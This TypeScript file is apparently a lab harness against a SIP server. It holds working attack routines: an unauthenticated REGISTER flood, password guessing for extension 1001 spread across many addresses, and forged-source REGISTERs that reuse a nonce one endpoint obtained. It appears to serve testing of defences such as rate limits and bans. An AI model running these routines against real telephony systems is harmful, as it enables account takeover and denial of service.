/**
 * Callers that no packaged tool is: run on one of the lab's hosts, to its end.
 *
 *     caller.ts ping ADDRESS                            prints the status that an OPTIONS gets, or "no answer"
 *     caller.ts flood ADDRESS PER-SECOND SECONDS        REGISTERs without credentials
 *     caller.ts stuff TRIES PER-SECOND ADDRESS…         each address tries passwords of one user, in turn with the others
 *     caller.ts forge OWN TIMES PER-SECOND ADDRESS:PORT…     from each endpoint, which may be anybody's: wrong passwords (over a challenge
 *                                                       that OWN got, since a stock nonce is not bound to who asked) and knocks
 */
import { setTimeout as sleep } from 'node:timers/promises'
import { credentials, Endpoint, statusOf } from './sip.ts'

const VICTIM = '1001'

const callers: Record<string, (...args: string[]) => Promise<void>> = {
  async ping(address) {
    const endpoint = await Endpoint.open(address!, 0)
    const answer = await endpoint.ask({ method: 'OPTIONS', user: 'ping' })
    console.log(answer === null ? 'no answer' : statusOf(answer))
    endpoint.close()
  },

  async flood(address, perSecond, seconds) {
    const endpoint = await Endpoint.open(address!, 0)
    await paced(Array(Number(perSecond) * Number(seconds)).fill(endpoint), Number(perSecond), async () => {
      endpoint.send({ method: 'REGISTER', user: VICTIM })
    })
    endpoint.close()
  },

  async stuff(tries, perSecond, ...addresses) {
    const endpoints = await Promise.all(addresses.map((address) => Endpoint.open(address, 5060)))
    const guesses = Array(Number(tries)).fill(endpoints).flat() as Endpoint[]
    await paced(guesses, Number(perSecond), async (endpoint, nth) => {
      const challenge = await endpoint.ask({ method: 'REGISTER', user: VICTIM })
      if (challenge === null) return
      await endpoint.ask({ method: 'REGISTER', user: VICTIM, authorization: credentials(challenge, VICTIM, `guess${nth}`) })
    })
    for (const endpoint of endpoints) endpoint.close()
  },

  async forge(own, times, perSecond, ...forged) {
    const asker = await Endpoint.open(own!, 0)
    const challenge = await asker.ask({ method: 'REGISTER', user: VICTIM })
    if (challenge === null) throw new Error('no challenge came')
    const authorization = credentials(challenge, VICTIM, 'wrong')
    const endpoints = await Promise.all(forged.map((text) => Endpoint.open(text.replace(/:\d+$/, ''), Number(text.replace(/.*:/, '')))))
    await paced(Array(Number(times)).fill(endpoints).flat() as Endpoint[], Number(perSecond), async (endpoint) => {
      endpoint.send({ method: 'REGISTER', user: VICTIM, authorization })
      endpoint.send({ method: 'REGISTER', user: VICTIM, domain: 'elsewhere.example' })
    })
    for (const endpoint of [asker, ...endpoints]) endpoint.close()
  },
}

/** Begins so many a second, whether or not those before have ended; waits for all. */
async function paced<T>(items: readonly T[], perSecond: number, call: (item: T, nth: number) => Promise<void>): Promise<void> {
  const begun = Date.now()
  const calls: Promise<void>[] = []
  for (const [nth, item] of items.entries()) {
    await sleep(Math.max(0, begun + (nth * 1000) / perSecond - Date.now()))
    calls.push(call(item, nth))
  }
  await Promise.all(calls)
}

const [name, ...args] = process.argv.slice(2)
await callers[name!]!(...args)
